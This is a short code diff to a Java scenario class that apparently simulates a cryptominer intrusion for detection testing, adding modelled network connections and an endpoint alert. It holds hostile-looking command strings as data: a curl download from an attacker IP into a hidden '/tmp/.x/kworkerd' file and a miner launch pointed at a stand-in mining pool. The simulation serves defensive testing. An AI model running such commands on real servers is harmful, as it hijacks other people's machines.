@@ -18,6 +18,7 @@ final class MinerStory implements Story {
             Programs.CURL,
             "curl -fsSL http://" + ip + "/k -o /tmp/.x/kworkerd",
             Programs.BASH);
+    scene.deeds(fetch).connects(ip, 80, "http://" + ip + "/k").creates(Programs.MINER, "");
     scene.later(Duration.ofMinutes(1));
     ProcessStart miner =
         scene.start(
@@ -26,6 +27,9 @@ final class MinerStory implements Story {
             Programs.MINER,
             "/tmp/.x/kworkerd -o pool.coinreef.example:3333",
             fetch.asParent());
+    scene
+        .deeds(miner)
+        .calls("203.0.113.9", 3_333, "pool.coinreef.example", 10, Duration.ofMinutes(1));
     scene.alert(
         Suspicion.endpoint(
                 "Coin miner on a server",
